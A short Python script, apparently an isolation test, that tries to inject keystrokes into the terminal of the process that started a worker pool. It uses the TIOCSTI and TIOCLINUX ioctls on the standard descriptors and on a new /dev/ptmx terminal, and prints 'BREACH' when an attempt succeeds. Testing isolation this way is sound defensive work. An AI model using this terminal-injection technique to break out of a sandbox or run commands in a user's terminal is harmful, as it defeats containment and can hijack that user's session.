# Tries: push input into the terminal of whoever started the pool.
# Success: it takes the input.
import fcntl
import os

for number in (0, 1, 2):
    if os.isatty(number):
        print("BREACH a terminal", number)
    for request in (0x5412, 0x541C):  # TIOCSTI, TIOCLINUX
        try:
            fcntl.ioctl(number, request, b"x")
            print("BREACH", hex(request))
        except OSError:
            pass
try:
    held = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(held, 0x5412, b"x")
    print("BREACH input through a new terminal")
except OSError:
    pass
print("ATTEMPTED")
